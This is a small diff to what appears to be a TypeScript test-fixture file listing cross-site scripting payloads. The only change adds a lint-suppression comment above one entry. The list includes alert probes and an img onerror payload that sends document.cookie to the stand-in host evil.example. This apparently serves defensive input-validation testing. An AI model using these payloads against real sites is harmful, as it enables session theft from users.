@@ -19,6 +19,7 @@ export const TOKEN_ADDRESS = "0x5FbDB2315678afecb367f032d93F642f64180aa3" as con
 
 export const SCRIPT_INJECTIONS = [
   "<script>alert(document.cookie)</script>",
+  // biome-ignore lint/suspicious/noTemplateCurlyInString: an injection attempt, kept as the attacker would write it
   '<img src=x onerror="fetch(`https://evil.example/?c=${document.cookie}`)">',
   '"><svg/onload=alert(1)>',
   "javascript:alert(1)",
